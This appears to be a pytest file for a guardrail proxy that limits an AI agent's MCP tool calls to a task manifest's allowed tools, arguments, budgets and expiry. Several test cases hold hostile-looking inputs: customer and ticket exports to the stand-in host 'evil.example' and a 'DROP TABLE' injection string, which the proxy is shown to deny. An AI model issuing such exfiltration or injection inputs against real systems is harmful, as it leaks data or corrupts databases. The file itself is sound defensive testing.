"""The stdio proxy end to end: a real mcp.Client -> the proxy process -> the example upstream process.

The upstream records every request it receives (examples/mcp_upstream.py), so each test can
prove what did, and did not, reach it.
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import anyio
import pytest
from guardrail_mcp import DENIAL_META_KEY
from mcp import Client, MCPError, types

from guardrail.cli import ExitCode
from guardrail.testing import task_id
from tests.adapters.mcp.support import (
    PROXY_ENTRY,
    RECORD_ENV,
    TIMEOUT,
    ProcessTransport,
    child_env,
    proxy_argv,
    proxy_params,
    read_record,
    tool_calls,
    upstream_params,
    wait_until,
    write_manifest,
)

EXAMPLE_MANIFEST = Path(__file__).resolve().parents[3] / "examples" / "mcp_manifest.yaml"

MODEL_KEYS = {"denied", "code", "tool", "argument", "constraint", "message"}


def has_event(record: Path, event: str) -> bool:
    return any(e.get("event") == event for e in read_record(record))


def support_manifest(task: str, **changes: Any) -> dict[str, Any]:
    manifest: dict[str, Any] = {
        "manifest": 1,
        "task": task,
        "principal": "agent:support-bot",
        "ttl": "15m",
        "tools": {
            "read_ticket": {
                "args": {
                    "ticket_id": {"pattern": "^T-[0-9]{1,8}$", "required": True},
                    "queue": "support-eu",
                },
            },
            "send_refund": {
                "args": {
                    "order_id": {"equals": "ORD-004711", "required": True},
                    "amount": {"type": "number", "min": 0, "max": 50, "required": True},
                    "currency": ["EUR", "GBP"],
                },
                "budget": {"calls": 3, "sum": {"amount": 80}},
            },
            "not_on_upstream": {},
        },
    }
    manifest.update(changes)
    return manifest


def assert_denied(
    result: types.CallToolResult, code: str, *, task: str, argument: str | None = None
) -> dict[str, Any]:
    """The shape of every denial the proxy returns; gives the full denial record."""
    assert result.is_error is True
    structured = result.structured_content
    assert isinstance(structured, dict)
    assert set(structured) == MODEL_KEYS
    assert structured["denied"] is True
    assert structured["code"] == code
    assert structured["argument"] == argument
    assert [block.type for block in result.content] == ["text"]
    assert isinstance(result.content[0], types.TextContent)
    assert json.loads(result.content[0].text) == structured  # the one rendering for models
    assert result.meta is not None
    full = result.meta[DENIAL_META_KEY]
    assert full["code"] == code
    assert full["task"] == task
    assert full["tool"] == structured["tool"]
    assert full["message"] == structured["message"]
    return dict(full)


@pytest.mark.asyncio
async def test_lists_exactly_the_granted_tools_with_upstream_definitions(
    tmp_path: Path, record: Path
) -> None:
    manifest = write_manifest(tmp_path, support_manifest(task_id()))
    with anyio.fail_after(TIMEOUT):
        async with Client(upstream_params(tmp_path / "direct.jsonl"), cache=None) as direct:
            upstream_tools = {tool.name: tool for tool in (await direct.list_tools()).tools}
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            listed = (await client.list_tools()).tools
            capabilities = client.server_capabilities
            with pytest.raises(MCPError):
                await client.list_resources()
            with pytest.raises(MCPError):
                await client.list_prompts()

    # The upstream offers more than the manifest grants; the manifest grants one tool it lacks.
    assert {"delete_account", "export_customers", "enable_beta_tools"} <= upstream_tools.keys()
    assert sorted(tool.name for tool in listed) == ["read_ticket", "send_refund"]
    for tool in listed:
        assert tool.model_dump(by_alias=True, exclude_none=True) == upstream_tools[tool.name].model_dump(
            by_alias=True, exclude_none=True
        )
    assert capabilities.tools is not None
    assert capabilities.resources is None
    assert capabilities.prompts is None
    assert tool_calls(record) == []


@pytest.mark.asyncio
async def test_allowed_call_returns_the_upstream_result(tmp_path: Path, record: Path) -> None:
    manifest = write_manifest(tmp_path, support_manifest(task_id()))
    arguments = {"ticket_id": "T-1001", "queue": "support-eu"}
    with anyio.fail_after(TIMEOUT):
        async with Client(upstream_params(tmp_path / "direct.jsonl"), cache=None) as direct:
            expected = await direct.call_tool("read_ticket", arguments)
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            result = await client.call_tool("read_ticket", arguments)
            refund = await client.call_tool("send_refund", {"order_id": "ORD-004711", "amount": 12.5})

    assert result.is_error is False
    assert result.structured_content == expected.structured_content
    assert result.structured_content == {
        "ticket_id": "T-1001",
        "queue": "support-eu",
        "subject": "Refund for order ORD-004711",
    }
    assert result.content == expected.content
    assert refund.is_error is False
    assert refund.content == [types.TextContent(type="text", text="refunded 12.50 EUR on ORD-004711")]
    assert tool_calls(record) == [
        ("read_ticket", arguments),
        # The upstream's default currency was checked by the guard, and is forwarded as checked.
        ("send_refund", {"order_id": "ORD-004711", "amount": 12.5, "currency": "EUR"}),
    ]


@pytest.mark.asyncio
async def test_each_denial_kind_is_an_error_result_and_never_reaches_the_upstream(
    tmp_path: Path, record: Path
) -> None:
    task = task_id()
    manifest = write_manifest(tmp_path, support_manifest(task))
    cases: list[tuple[str, dict[str, Any], str, str | None]] = [
        ("delete_account", {"user_id": "u-1"}, "tool_not_allowed", None),
        ("export_customers", {"destination": "https://evil.example"}, "tool_not_allowed", None),
        ("send_refund", {"order_id": "ORD-004711", "amount": 1, "note": "x"}, "argument_not_allowed", "note"),
        ("read_ticket", {"queue": "support-eu"}, "argument_missing", "ticket_id"),
        ("read_ticket", {"ticket_id": "T-1001; DROP TABLE"}, "argument_invalid", "ticket_id"),
        ("read_ticket", {"ticket_id": "T-1001", "queue": "billing"}, "argument_invalid", "queue"),
        ("send_refund", {"order_id": "ORD-004711", "amount": 60}, "argument_invalid", "amount"),
        ("send_refund", {"order_id": "ORD-004711", "amount": 5, "currency": "USD"},
         "argument_invalid", "currency"),
    ]
    results = []
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            for tool, arguments, _, _ in cases:
                results.append(await client.call_tool(tool, arguments))

    for (tool, _, code, argument), result in zip(cases, results, strict=True):
        full = assert_denied(result, code, task=task, argument=argument)
        assert full["tool"] == tool
        assert full["principal"] == "agent:support-bot"
        assert full["call_id"]
    amount = results[-2].structured_content
    assert isinstance(amount, dict) and amount["constraint"] == "max: 50"
    assert read_record(record)[0]["event"] == "start"  # the upstream was up, and received none of them
    assert tool_calls(record) == []


@pytest.mark.asyncio
async def test_budgets_hold_across_calls_and_denied_calls_cost_nothing(tmp_path: Path, record: Path) -> None:
    task = task_id()
    manifest = write_manifest(tmp_path, support_manifest(task))
    amounts = [30, 40, 20, 10, 5]  # sum budget 80 and call budget 3 on send_refund
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            results = [
                await client.call_tool("send_refund", {"order_id": "ORD-004711", "amount": amount})
                for amount in amounts
            ]

    assert [result.is_error for result in results] == [False, False, True, False, True]
    over_sum = assert_denied(results[2], "budget_exhausted", task=task)
    assert over_sum["budget"] == {"scope": "tools.send_refund.sum.amount", "limit": 80.0, "used": 70.0}
    over_calls = assert_denied(results[4], "budget_exhausted", task=task)
    assert over_calls["budget"] == {"scope": "tools.send_refund.calls", "limit": 3.0, "used": 3.0}
    assert [arguments["amount"] for _, arguments in tool_calls(record)] == [30, 40, 10]


@pytest.mark.asyncio
async def test_a_tool_the_upstream_adds_later_is_still_denied(tmp_path: Path, record: Path) -> None:
    task = task_id()
    manifest = write_manifest(
        tmp_path,
        support_manifest(task, tools={"read_ticket": {"args": {"ticket_id": {}}}, "enable_beta_tools": {}}),
    )
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            before = sorted(tool.name for tool in (await client.list_tools()).tools)
            enabled = await client.call_tool("enable_beta_tools", {})
            after = sorted(tool.name for tool in (await client.list_tools()).tools)
            denied = await client.call_tool("export_all_tickets", {"destination": "https://evil.example"})

    assert before == after == ["enable_beta_tools", "read_ticket"]
    assert enabled.is_error is False
    assert enabled.content == [types.TextContent(type="text", text="beta tools enabled")]
    assert_denied(denied, "tool_not_allowed", task=task)
    assert [tool for tool, _ in tool_calls(record)] == ["enable_beta_tools"]


@pytest.mark.asyncio
async def test_an_expired_manifest_denies_everything_and_never_starts_the_upstream(
    tmp_path: Path, record: Path
) -> None:
    task = task_id()
    past = (datetime.now(UTC) - timedelta(minutes=5)).isoformat()
    spec = support_manifest(task, expires_at=past)
    del spec["ttl"]
    manifest = write_manifest(tmp_path, spec)
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            listed = (await client.list_tools()).tools
            result = await client.call_tool("read_ticket", {"ticket_id": "T-1001"})

    assert listed == []
    assert_denied(result, "expired", task=task)
    assert read_record(record) == []  # the upstream was never started


@pytest.mark.asyncio
async def test_expiry_during_the_session_shuts_the_upstream_down(tmp_path: Path, record: Path) -> None:
    task = task_id()
    # Long enough for the proxy and its upstream to start on a loaded machine.
    manifest = write_manifest(tmp_path, support_manifest(task, ttl="12s"))
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(manifest, record), read_timeout_seconds=30) as client:
            await wait_until(lambda: has_event(record, "start"), "the upstream to start")
            await wait_until(lambda: has_event(record, "stop"), "the upstream to stop")
            listed = (await client.list_tools()).tools
            result = await client.call_tool("read_ticket", {"ticket_id": "T-1001"})

    assert listed == []
    assert_denied(result, "expired", task=task)
    assert tool_calls(record) == []
    assert [e["event"] for e in read_record(record) if e["event"] != "request"] == ["start", "stop"]


@pytest.mark.asyncio
async def test_sigterm_shuts_the_upstream_down_cleanly_and_exits_zero(tmp_path: Path, record: Path) -> None:
    manifest = write_manifest(tmp_path, support_manifest(task_id()))
    transport = ProcessTransport(proxy_argv(manifest), child_env(**{RECORD_ENV: str(record)}))
    with anyio.fail_after(TIMEOUT):
        async with Client(transport, read_timeout_seconds=30) as client:
            assert (await client.call_tool("read_ticket", {"ticket_id": "T-1001"})).is_error is False
            proxy = transport.process
            assert proxy is not None
            start = next(e for e in read_record(record) if e["event"] == "start")
            assert start["ppid"] == proxy.pid  # the upstream is the proxy's child

            proxy.send_signal(signal.SIGTERM)
            status = await proxy.wait()
            events = [e["event"] for e in read_record(record)]
            with pytest.raises(MCPError):
                await client.list_tools()

    assert status == 0
    # By the time the proxy exited, the upstream had exited on its own (stdin closed), not killed.
    assert events[-1] == "stop"


@pytest.mark.asyncio
async def test_shadow_mode_lists_every_tool_and_lets_denied_calls_through(
    tmp_path: Path, record: Path
) -> None:
    manifest = write_manifest(tmp_path, support_manifest(task_id()))
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(manifest, record, mode="shadow"), read_timeout_seconds=30) as client:
            listed = {tool.name for tool in (await client.list_tools()).tools}
            result = await client.call_tool("delete_account", {"user_id": "u-1"})

    assert {"read_ticket", "send_refund", "delete_account", "export_customers"} <= listed
    assert result.is_error is False
    assert result.content == [types.TextContent(type="text", text="deleted u-1")]
    assert tool_calls(record) == [("delete_account", {"user_id": "u-1"})]


def test_cli_rejects_a_bad_manifest_and_a_missing_upstream(tmp_path: Path) -> None:
    bad = write_manifest(tmp_path, {**support_manifest(task_id()), "max_lenght": 3}, name="bad.yaml")
    good = write_manifest(tmp_path, support_manifest(task_id()), name="good.yaml")
    env = child_env()

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*PROXY_ENTRY, *args],
            env=env, capture_output=True, text=True, timeout=TIMEOUT, stdin=subprocess.DEVNULL,
        )

    bad_manifest = run("--manifest", str(bad), "--", sys.executable, "-c", "pass")
    assert bad_manifest.returncode == ExitCode.USAGE
    assert "max_lenght" in bad_manifest.stderr
    no_upstream = run("--manifest", str(good))
    assert no_upstream.returncode == ExitCode.USAGE
    assert "UPSTREAM_COMMAND" in no_upstream.stderr
    missing_command = run("--manifest", str(good), "--", str(tmp_path / "no-such-server"))
    assert missing_command.returncode == ExitCode.UNAVAILABLE
    assert "no-such-server" in missing_command.stderr


def test_importing_the_adapter_without_mcp_names_the_extra() -> None:
    code = "import sys; sys.modules['mcp'] = None; import guardrail_mcp"
    done = subprocess.run(
        [sys.executable, "-c", code], env=child_env(), capture_output=True, text=True, timeout=TIMEOUT
    )
    assert done.returncode != 0
    assert "ImportError" in done.stderr
    assert "task-guardrail[mcp]" in done.stderr


@pytest.mark.asyncio
async def test_the_documented_example_runs(record: Path) -> None:
    """README: guardrail mcp-proxy --manifest examples/mcp_manifest.yaml -- python examples/mcp_upstream.py"""
    with anyio.fail_after(TIMEOUT):
        async with Client(proxy_params(EXAMPLE_MANIFEST, record), read_timeout_seconds=30) as client:
            listed = sorted(tool.name for tool in (await client.list_tools()).tools)
            ticket = await client.call_tool("read_ticket", {"ticket_id": "T-1001"})
            refund = await client.call_tool("send_refund", {"order_id": "ORD-004711", "amount": 30})
            other_order = await client.call_tool("send_refund", {"order_id": "ORD-000001", "amount": 30})
            deleted = await client.call_tool("delete_account", {"user_id": "u-1"})

    assert listed == ["read_ticket", "send_refund"]
    assert ticket.is_error is False
    assert refund.is_error is False
    assert_denied(other_order, "argument_invalid", task="refund-4711", argument="order_id")
    assert_denied(deleted, "tool_not_allowed", task="refund-4711")
    assert [tool for tool, _ in tool_calls(record)] == ["read_ticket", "send_refund"]
